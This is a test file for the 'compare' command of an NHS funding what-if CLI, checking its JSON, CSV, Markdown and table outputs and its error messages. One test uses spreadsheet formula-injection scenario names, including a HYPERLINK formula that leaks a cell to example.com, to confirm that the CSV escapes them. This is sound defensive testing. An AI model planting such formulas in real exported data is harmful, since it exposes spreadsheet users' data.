import { describe, expect, it } from 'vitest';
import { cli } from './cli.js';

const BASELINE = 'scenarios/baseline.yaml';
const GROWTH_3 = 'test/fixtures/compare/growth-3-percent.yaml';
const CAPACITY = 'scenarios/capacity-constrained.yaml';
const WHAT_HAPPENED = 'scenarios/what-happened.yaml';

/** `nhs-whatif compare ARGS...` through the built command; expects it to succeed and returns stdout. */
async function compare(...args: string[]): Promise<string> {
  const { code, stdout, stderr } = await cli('compare', ...args);
  expect(stderr).toBe('');
  expect(code).toBe(0);
  return stdout;
}

/** Enough of RFC 4180 for these files: quoted fields may hold commas, quotes and newlines. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(field);
      field = '';
    } else if (char === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    } else field += char;
  }
  return rows;
}

describe('nhs-whatif compare', () => {
  it('prints JSON with full precision', async () => {
    const json = JSON.parse(await compare(BASELINE, GROWTH_3, '--format', 'json'));
    expect(json.scenarios).toEqual([
      { name: 'Baseline', file: BASELINE, years: ['2016/17', '2017/18', '2018/19', '2019/20', '2020/21'] },
      { name: 'Growth 3%', file: GROWTH_3, years: ['2016/17', '2017/18', '2018/19', '2019/20', '2020/21'] },
    ]);
    const row = json.rows.find((candidate: { label: string }) => candidate.label === 'cumulative_extra_to_private');
    expect(row).toEqual({
      cell: 'cumulative_extra_to_private',
      label: 'cumulative_extra_to_private',
      part: 'value',
      unit: '£bn',
      values: [18.673275091764715, 28.3873792110604],
      differences: [{ absolute: 28.3873792110604 - 18.673275091764715, relative: (28.3873792110604 - 18.673275091764715) / 18.673275091764715 }],
    });
  });

  it('shows absent cells and errors in JSON', async () => {
    const { code, stdout } = await cli('compare', BASELINE, CAPACITY, 'test/fixtures/compare/broken-share.yaml', '--format', 'json');
    expect(code).toBe(1);
    const json = JSON.parse(stdout);
    const row = (label: string) => json.rows.find((candidate: { label: string }) => candidate.label === label);
    expect(row('nhs_capacity_growth').values).toEqual([{ absent: 'not in this scenario' }, 0.8, { absent: 'not in this scenario' }]);
    expect(row('nhs_capacity_growth').differences).toEqual([null, null]);
    expect(row('private_share 2020/21').values[2]).toEqual({ error: expect.stringContaining('division by zero') });
  });

  it('prints CSV a spreadsheet can read, with raw numbers', async () => {
    const rows = parseCsv(await compare(BASELINE, GROWTH_3, CAPACITY, '--format', 'csv'));
    expect(rows[0]).toEqual([
      'cell',
      'part',
      'year',
      'unit',
      'Baseline',
      'Growth 3%',
      'Capacity-constrained NHS',
      'Growth 3% change',
      'Growth 3% relative change',
      'Capacity-constrained NHS change',
      'Capacity-constrained NHS relative change',
      'error',
    ]);
    expect(new Set(rows.map((row) => row.length))).toEqual(new Set([12]));
    const cumulative = rows.find((row) => row[0] === 'cumulative_extra_to_private')!;
    expect(cumulative.slice(0, 6)).toEqual(['cumulative_extra_to_private', 'value', '', '£bn', '18.673275091764715', '28.3873792110604']);
    expect(Number(cumulative[7])).toBe(28.3873792110604 - 18.673275091764715);
    const share = rows.find((row) => row[0] === 'private_share' && row[2] === '2020/21')!;
    expect(share[1]).toBe('year');
    expect(Number(share[4])).toBeCloseTo(0.1187, 4);
    expect(rows.find((row) => row[0] === 'nhs_capacity_growth')!.slice(4, 12)).toEqual(['', '', '0.8', '', '', '', '', '']);
  });

  it('prefixes scenario names a spreadsheet would run as formulas with a quote, and keeps negative numbers raw', async () => {
    const { code, stdout } = await cli(
      'compare',
      BASELINE,
      'test/fixtures/cli/hyperlink-name.yaml',
      'test/fixtures/cli/at-name.yaml',
      '--cells',
      'cumulative_extra_to_nhs',
      '--format',
      'csv',
    );
    const hyperlink = `'=HYPERLINK("http://example.com/?leak="&A1,"Baseline")`;
    expect(parseCsv(stdout)).toEqual([
      [
        'cell',
        'part',
        'year',
        'unit',
        'Baseline',
        hyperlink,
        "'@SUM(1+1)",
        `${hyperlink} change`,
        `${hyperlink} relative change`,
        "'@SUM(1+1) change",
        "'@SUM(1+1) relative change",
        'error',
      ],
      [
        'cumulative_extra_to_nhs',
        'value',
        '',
        '£bn',
        '16.598466748235303',
        '8.189046581238404',
        '16.598466748235303',
        '-8.409420166996899',
        '-0.5066383717574975',
        '0',
        '0',
        '',
      ],
    ]);
    expect(code).toBe(0);
  });

  it('gives the reason for each ERROR in the CSV error column', async () => {
    const { code, stdout } = await cli('compare', BASELINE, 'test/fixtures/compare/broken-share.yaml', '--cells', 'private_share', '--format', 'csv');
    const rows = parseCsv(stdout);
    expect(rows[0]).toEqual(['cell', 'part', 'year', 'unit', 'Baseline', 'Broken share', 'Broken share change', 'Broken share relative change', 'error']);
    expect(rows.find((row) => row[2] === '2020/21')).toEqual([
      'private_share',
      'year',
      '2020/21',
      'percent',
      '0.11874275987241223',
      'ERROR',
      '',
      '',
      'Broken share: 2016/17: result is Infinity (division by zero or a number out of range)',
    ]);
    expect(code).toBe(1);
  });

  it('prints a Markdown table ready for a briefing', async () => {
    const md = await compare(BASELINE, GROWTH_3, '--format', 'md', '--cells', 'cumulative_extra_to_private,private_share');
    expect(md).toBe(
      [
        '### Baseline vs Growth 3%',
        '',
        '| cell | Baseline | Growth 3% | change | % |',
        '| --- | ---: | ---: | ---: | ---: |',
        '| cumulative_extra_to_private | £18.67bn | £28.39bn | +£9.71bn | +52.0% |',
        '| private_share 2016/17 | 8.49% | 8.92% | +0.43 pp | +5.1% |',
        '| private_share 2017/18 | 9.36% | 10.20% | +0.84 pp | +9.0% |',
        '| private_share 2018/19 | 10.22% | 11.45% | +1.23 pp | +12.1% |',
        '| private_share 2019/20 | 11.05% | 12.66% | +1.60 pp | +14.5% |',
        '| private_share 2020/21 | 11.87% | 13.83% | +1.96 pp | +16.5% |',
        '',
        'Changes are against Baseline; shares change in percentage points (pp).',
        '',
      ].join('\n'),
    );
  });

  it('prints an aligned table with a note on absent cells', async () => {
    const table = await compare(BASELINE, CAPACITY, '--cells', 'cumulative_extra_to_nhs,nhs_capacity_growth');
    expect(table.split('\n')).toEqual([
      'cell                     Baseline  Capacity-constrained NHS    change       %',
      'cumulative_extra_to_nhs  £16.60bn                  £12.00bn  -£4.60bn  -27.7%',
      'nhs_capacity_growth             —                   £0.80bn',
      '',
      'Changes are against Baseline; shares change in percentage points (pp).',
      '— means the scenario has no such cell, or that year is outside its horizon.',
      '',
    ]);
  });

  it('lists errors under the table with file:line:col and exits 1', async () => {
    const { code, stdout, stderr } = await cli('compare', BASELINE, 'test/fixtures/compare/broken-share.yaml', '--cells', 'private_share', '--format', 'md');
    expect(stdout).toContain('| private_share 2020/21 | 11.87% | ERROR |  |  |');
    expect(
      stdout.endsWith(
        '\nErrors:\n\n- test/fixtures/compare/broken-share.yaml:5:18: private_share: 2016/17: result is Infinity (division by zero or a number out of range)\n',
      ),
    ).toBe(true);
    expect(stderr).toBe('');
    expect(code).toBe(1);
  });

  it('places an inherited failing formula in the parent file and names the scenario, on stderr for JSON', async () => {
    const { code, stdout, stderr } = await cli('compare', BASELINE, 'test/fixtures/cli/budget-collapse.yaml', '--format', 'json');
    expect(JSON.parse(stdout).scenarios.map((scenario: { name: string }) => scenario.name)).toEqual(['Baseline', 'Budget collapse']);
    expect(stderr).toBe(
      'scenarios/baseline.yaml:109:14: private_share: 2016/17: result is -Infinity (division by zero or a number out of range) (inherited by test/fixtures/cli/budget-collapse.yaml)\n',
    );
    expect(code).toBe(1);
  });

  it('reports every file that fails to load, not just the first', async () => {
    const { code, stdout, stderr } = await cli('compare', 'scenarios/no-such.yaml', BASELINE, 'test/fixtures/cli/missing-parent.yaml');
    expect(stdout).toBe('');
    expect(stderr).toBe(
      'cannot read scenarios/no-such.yaml: no such file; check the path\n' +
        'test/fixtures/cli/missing-parent.yaml:2:10: parent scenario test/fixtures/cli/no-such-parent.yaml not found; check the path\n',
    );
    expect(code).toBe(1);
  });

  it('tells apart scenarios with the same name by file name in every format', async () => {
    const files = [BASELINE, 'test/fixtures/cli/also-baseline.yaml', '--cells', 'cumulative_extra_to_nhs'];
    expect((await cli('compare', ...files)).stdout.split('\n')[0]).toBe(
      'cell                     Baseline [baseline.yaml]  Baseline [also-baseline.yaml]    change       %',
    );
    expect((await cli('compare', ...files, '--format', 'md')).stdout.split('\n').slice(0, 3)).toEqual([
      '### Baseline [baseline.yaml] vs Baseline [also-baseline.yaml]',
      '',
      '| cell | Baseline [baseline.yaml] | Baseline [also-baseline.yaml] | change | % |',
    ]);
    expect(parseCsv((await cli('compare', ...files, '--format', 'csv')).stdout)[0]!.slice(4, 8)).toEqual([
      'Baseline [baseline.yaml]',
      'Baseline [also-baseline.yaml]',
      'Baseline [also-baseline.yaml] change',
      'Baseline [also-baseline.yaml] relative change',
    ]);
    expect(
      JSON.parse((await cli('compare', ...files, '--format', 'json')).stdout).scenarios.map((scenario: { name: string; file: string }) => [
        scenario.name,
        scenario.file,
      ]),
    ).toEqual([
      ['Baseline [baseline.yaml]', BASELINE],
      ['Baseline [also-baseline.yaml]', 'test/fixtures/cli/also-baseline.yaml'],
    ]);
  });

  it('uses the path when the file names are the same too, and the position when a file is given twice', async () => {
    const md = (await cli('compare', BASELINE, 'test/fixtures/cli/renamed/baseline.yaml', '--cells', 'cumulative_extra_to_nhs', '--format', 'md')).stdout;
    expect(md.split('\n')[0]).toBe('### Baseline [scenarios/baseline.yaml] vs Baseline [test/fixtures/cli/renamed/baseline.yaml]');
    const twice = await cli('compare', BASELINE, BASELINE, '--cells', 'cumulative_extra_to_nhs');
    expect(twice.stdout.split('\n').slice(0, 2)).toEqual([
      'cell                     Baseline [baseline.yaml #1]  Baseline [baseline.yaml #2]    change      %',
      'cumulative_extra_to_nhs                     £16.60bn                     £16.60bn  ±£0.00bn  ±0.0%',
    ]);
    expect(twice.code).toBe(0);
  });

  it('refuses an unknown --cells name with a suggestion, and an empty list, with exit code 2', async () => {
    expect(await cli('compare', BASELINE, CAPACITY, '--cells', 'cumulative_extra_to_privat')).toEqual({
      code: 2,
      stdout: '',
      stderr: 'nhs-whatif: --cells: no cell named "cumulative_extra_to_privat" in these scenarios (did you mean "cumulative_extra_to_private"?)\n',
    });
    expect(await cli('compare', BASELINE, CAPACITY, '--cells', ' , ')).toEqual({
      code: 2,
      stdout: '',
      stderr: 'nhs-whatif: --cells needs cell names separated by commas, e.g. --cells cumulative_extra_to_private,private_share\n',
    });
  });
});

describe('nhs-whatif compare with three or more scenarios and different horizons', () => {
  it('prints a table with a value, change and % column for each later scenario, matched by year', async () => {
    const table = await compare(
      BASELINE,
      WHAT_HAPPENED,
      CAPACITY,
      'scenarios/reverse-privatisation.yaml',
      '--cells',
      'budget,private_share,cumulative_extra_to_nhs',
    );
    expect(table.split('\n')).toEqual([
      'cell                                                               Baseline  What happened to 2019/20     change       %  Capacity-constrained NHS    change       %  Reverse privatisation     change       %',
      'budget 2016/17                                                    £116.76bn                 £119.23bn   +£2.47bn   +2.1%                 £116.76bn  ±£0.00bn   ±0.0%              £116.76bn   ±£0.00bn   ±0.0%',
      'budget 2017/18                                                    £119.10bn                 £124.19bn   +£5.09bn   +4.3%                 £119.10bn  ±£0.00bn   ±0.0%              £119.10bn   ±£0.00bn   ±0.0%',
      'budget 2018/19                                                    £121.48bn                 £129.35bn   +£7.87bn   +6.5%                 £121.48bn  ±£0.00bn   ±0.0%              £121.48bn   ±£0.00bn   ±0.0%',
      'budget 2019/20                                                    £123.91bn                 £134.72bn  +£10.81bn   +8.7%                 £123.91bn  ±£0.00bn   ±0.0%              £123.91bn   ±£0.00bn   ±0.0%',
      'budget 2020/21                                                    £126.39bn                         —                                    £126.39bn  ±£0.00bn   ±0.0%              £126.39bn   ±£0.00bn   ±0.0%',
      'budget total over each horizon                                    £607.64bn                 £507.49bn                                    £607.64bn  ±£0.00bn   ±0.0%              £607.64bn   ±£0.00bn   ±0.0%',
      'private_share 2016/17                                                 8.49%                     7.49%   -1.00 pp  -11.7%                     8.73%  +0.24 pp   +2.8%                  8.49%   ±0.00 pp   ±0.0%',
      'private_share 2017/18                                                 9.36%                     7.39%   -1.97 pp  -21.0%                     9.84%  +0.48 pp   +5.2%                  8.85%   -0.51 pp   -5.5%',
      'private_share 2018/19                                                10.22%                     7.29%   -2.92 pp  -28.6%                    10.95%  +0.74 pp   +7.2%                  8.69%   -1.53 pp  -14.9%',
      'private_share 2019/20                                                11.05%                     7.20%   -3.85 pp  -34.9%                    12.05%  +1.00 pp   +9.1%                  8.03%   -3.02 pp  -27.4%',
      'private_share 2020/21                                                11.87%                         —                                       13.15%  +1.27 pp  +10.7%                  6.88%   -4.99 pp  -42.0%',
      'private_share observed 2016/17 (Full Fact, 2019)                      7.70%                     7.70%                                        7.70%                                    7.70%',
      'private_share 2016/17 projected − observed                         +0.79 pp                  -0.21 pp   -1.00 pp                          +1.03 pp  +0.24 pp                       +0.79 pp   ±0.00 pp',
      'private_share observed 2017/18 (Full Fact, 2019)                      7.30%                     7.30%                                        7.30%                                    7.30%',
      'private_share 2017/18 projected − observed                         +2.06 pp                  +0.09 pp   -1.97 pp                          +2.54 pp  +0.48 pp                       +1.55 pp   -0.51 pp',
      'private_share observed 2018/19 (Full Fact, 2019)                      7.30%                     7.30%                                        7.30%                                    7.30%',
      'private_share 2018/19 projected − observed                         +2.92 pp                  -0.01 pp   -2.92 pp                          +3.65 pp  +0.74 pp                       +1.39 pp   -1.53 pp',
      "private_share observed 2019/20 (The King's Fund, 2021)                7.20%                     7.20%                                        7.20%                                    7.20%",
      'private_share 2019/20 projected − observed                         +3.85 pp                  ±0.00 pp   -3.85 pp                          +4.85 pp  +1.00 pp                       +0.83 pp   -3.02 pp',
      'private_share observed 2022/23 (Public Accounts Committee, 2024)      6.50%                     6.50%                                        6.50%                                    6.50%',
      'private_share 2022/23 projected − observed                                —                         —                                            —                                        —',
      'cumulative_extra_to_nhs                                            £16.60bn                  £47.14bn                                     £12.00bn  -£4.60bn  -27.7%               £29.12bn  +£12.52bn  +75.4%',
      '',
      'Changes are against Baseline; shares change in percentage points (pp).',
      "Observed: values published later, as a compared file records them (observed:), each with each scenario's projection for that year minus it; observations never change the model.",
      "Horizons differ: totals, and values summed over the years, cover each scenario's own years, so they are not subtracted.",
      '— means the scenario has no such cell, or that year is outside its horizon.',
      '',
    ]);
  });

  it('prints a Markdown table for three scenarios with the notes in one paragraph', async () => {
    const md = await compare(BASELINE, WHAT_HAPPENED, 'scenarios/average-split.yaml', '--format', 'md', '--cells', 'extra_to_private');
    expect(md.split('\n')).toEqual([
      '### Baseline vs What happened to 2019/20 vs Average split',
      '',
      '| cell | Baseline | What happened to 2019/20 | change | % | Average split | change | % |',
      '| --- | ---: | ---: | ---: | ---: | ---: | ---: | ---: |',
      '| extra_to_private 2016/17 | £1.21bn | £0.23bn | -£0.98bn | -80.6% | £0.17bn | -£1.04bn | -85.6% |',
      '| extra_to_private 2017/18 | £2.45bn | £0.48bn | -£1.97bn | -80.4% | £0.35bn | -£2.10bn | -85.6% |',
      '| extra_to_private 2018/19 | £3.71bn | £0.73bn | -£2.97bn | -80.2% | £0.53bn | -£3.18bn | -85.6% |',
      '| extra_to_private 2019/20 | £5.00bn | £1.00bn | -£4.00bn | -80.0% | £0.72bn | -£4.28bn | -85.6% |',
      '| extra_to_private 2020/21 | £6.31bn | — |  |  | £0.91bn | -£5.40bn | -85.6% |',
      '| extra_to_private total over each horizon | £18.67bn | £2.45bn |  |  | £2.68bn | -£15.99bn | -85.6% |',
      '',
      "Changes are against Baseline; shares change in percentage points (pp). Horizons differ: totals, and values summed over the years, cover each scenario's own years, so they are not subtracted. — means the scenario has no such cell, or that year is outside its horizon.",
      '',
    ]);
  });

  it('gives each scenario its own years in JSON, and no difference where a year or a comparable total is missing', async () => {
    const json = JSON.parse(await compare(BASELINE, WHAT_HAPPENED, '--format', 'json', '--cells', 'extra_to_private'));
    expect(json.scenarios).toEqual([
      { name: 'Baseline', file: BASELINE, years: ['2016/17', '2017/18', '2018/19', '2019/20', '2020/21'] },
      { name: 'What happened to 2019/20', file: WHAT_HAPPENED, years: ['2016/17', '2017/18', '2018/19', '2019/20'] },
    ]);
    const row = (label: string) => json.rows.find((candidate: { label: string }) => candidate.label === label);
    expect(row('extra_to_private 2020/21').values[1]).toEqual({ absent: "2020/21 is outside this scenario's horizon" });
    expect(row('extra_to_private 2020/21').differences).toEqual([null]);
    expect(row('extra_to_private total over each horizon').differences).toEqual([null]);
    const [baseline2019, happened2019] = row('extra_to_private 2019/20').values;
    expect(row('extra_to_private 2019/20').differences).toEqual([
      { absolute: happened2019 - baseline2019, relative: (happened2019 - baseline2019) / baseline2019 },
    ]);
  });

  it('puts every year of both horizons in the CSV, blank where a scenario has none', async () => {
    const rows = parseCsv(await compare(BASELINE, 'test/fixtures/compare/short-horizon.yaml', GROWTH_3, '--format', 'csv', '--cells', 'budget'));
    expect(rows[0]!.slice(2, 9)).toEqual(['year', 'unit', 'Baseline', 'Three years', 'Growth 3%', 'Three years change', 'Three years relative change']);
    const base = 8.7 / 0.076;
    const threeYears = [1, 2, 3].map((t) => base * 1.02 ** t);
    expect(rows.slice(1).map((row) => [row[1], row[2]])).toEqual([
      ['year', '2016/17'],
      ['year', '2017/18'],
      ['year', '2018/19'],
      ['year', '2019/20'],
      ['year', '2020/21'],
      ['total', ''],
    ]);
    threeYears.forEach((expected, i) => {
      expect(Math.abs(Number(rows[i + 1]![5]) - expected) / expected).toBeLessThan(1e-12);
    });
    // 2019/20 and 2020/21: no value and no change for Three years; Growth 3% still has its own.
    for (const row of [rows[4]!, rows[5]!]) expect([row[5], row[7], row[8], Number(row[6]) > 0]).toEqual(['', '', '', true]);
    const total = threeYears.reduce((sum, value) => sum + value, 0);
    expect(Math.abs(Number(rows[6]![5]) - total) / total).toBeLessThan(1e-12);
    // A total over three years is not subtracted from one over five.
    expect(rows[6]!.slice(7, 9)).toEqual(['', '']);
  });
});
